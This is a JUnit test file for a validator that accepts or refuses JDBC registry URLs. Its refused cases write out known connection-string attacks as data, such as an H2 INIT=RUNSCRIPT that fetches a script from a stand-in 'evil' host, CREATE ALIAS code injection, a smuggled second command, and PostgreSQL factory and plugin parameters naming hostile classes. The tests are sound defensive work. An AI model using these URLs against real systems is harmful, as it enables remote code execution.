package dev.dataenc.registry;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which JDBC URLs may name the registry. */
class RegistryUrlPolicyTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:file:/var/lib/dataenc/registry",
            "jdbc:h2:file:/var/lib/dataenc/registry;WRITE_DELAY=0;DB_CLOSE_DELAY=-1",
            "jdbc:h2:file:~/dataenc/registry;CIPHER=AES;lock_timeout=10000",
            "jdbc:h2:file:./registry;USER=sa;PASSWORD=s3cr3t pass!",
            "jdbc:postgresql://db.example.com:5432/dataenc",
            "jdbc:postgresql://db.example.com:5432/dataenc?ssl=true&sslmode=verify-full&currentSchema=dataenc",
            "jdbc:postgresql:dataenc"})
    void allowedUrl_passes(String url) {
        assertDoesNotThrow(() -> RegistryUrlPolicy.check(url));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "jdbc:h2:file:/r;INIT=RUNSCRIPT FROM 'http://evil/x.sql'|RUNSCRIPT",
            "jdbc:h2:file:/r;INIT=CREATE ALIAS X AS 'void x() {}'|INIT",
            "jdbc:h2:file:/r;init=SET MODE REGULAR|init",
            "jdbc:h2:file:/r; INIT =SET MODE REGULAR|INIT",
            "jdbc:h2:file:/r;AUTO_SERVER=TRUE|AUTO_SERVER",
            "jdbc:h2:file:/r;FILE_LOCK=NO|FILE_LOCK",
            "jdbc:h2:file:/r;TRACE_LEVEL_FILE=3|TRACE_LEVEL_FILE",
            "jdbc:h2:file:/r;DATABASE_EVENT_LISTENER=com.evil.Listener|DATABASE_EVENT_LISTENER",
            "jdbc:h2:file:/r;IFEXISTS=FALSE|IFEXISTS",
            "jdbc:h2:file:/r;MODE=PostgreSQL|MODE",
            "jdbc:h2:file:/r;CACHE_SIZE=1\\;CREATE ALIAS X|CACHE_SIZE",
            "jdbc:h2:file:/r;CACHE_SIZE=1 2|CACHE_SIZE",
            "jdbc:h2:file:memFS:/r|memFS:",
            "jdbc:h2:file:zip:/r.zip!/r|zip:",
            "jdbc:h2:mem:registry|jdbc:h2:mem:",
            "jdbc:h2:tcp://localhost/r|jdbc:h2:tcp:",
            "jdbc:h2:/var/lib/r|jdbc:h2:",
            "jdbc:mysql://db/dataenc|jdbc:mysql:",
            "jdbc:postgresql://db/x?socketFactory=com.evil.Factory|socketFactory",
            "jdbc:postgresql://db/x?ssl=true&sslfactory=com.evil.Factory|sslfactory",
            "jdbc:postgresql://db/x?SSLFACTORY=com.evil.Factory|SSLFACTORY",
            "jdbc:postgresql://db/x?socket%46actory=com.evil.Factory|socketFactory",
            "jdbc:postgresql://db/x?sslhostnameverifier=com.evil.V|sslhostnameverifier",
            "jdbc:postgresql://db/x?sslpasswordcallback=com.evil.C|sslpasswordcallback",
            "jdbc:postgresql://db/x?authenticationPluginClassName=com.evil.P|authenticationPluginClassName",
            "jdbc:postgresql://db/x?xmlFactoryFactory=com.evil.X|xmlFactoryFactory",
            "jdbc:postgresql://db/x?loggerFile=/tmp/pg.log|loggerFile",
            "jdbc:postgresql://db/x?service=evil|service"})
    void refusedUrl_isRefusedNamingTheOption(String url, String option) {
        UnsafeRegistryUrlException e = assertThrows(UnsafeRegistryUrlException.class, () -> RegistryUrlPolicy.check(url));

        assertEquals(option, e.option());
        assertTrue(e.getMessage().contains("'" + option + "'") || e.getMessage().contains(option), e.getMessage());
        assertFalse(e.getMessage().contains("\n"), "one line");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:file:/r;PASSWORD=hunter2;INIT=X", "mysql://u:hunter2@db/x"})
    void refusal_neverShowsThePassword(String url) {
        UnsafeRegistryUrlException e = assertThrows(UnsafeRegistryUrlException.class, () -> RegistryUrlPolicy.check(url));

        assertFalse(e.getMessage().contains("hunter2"), e.getMessage());
    }
}
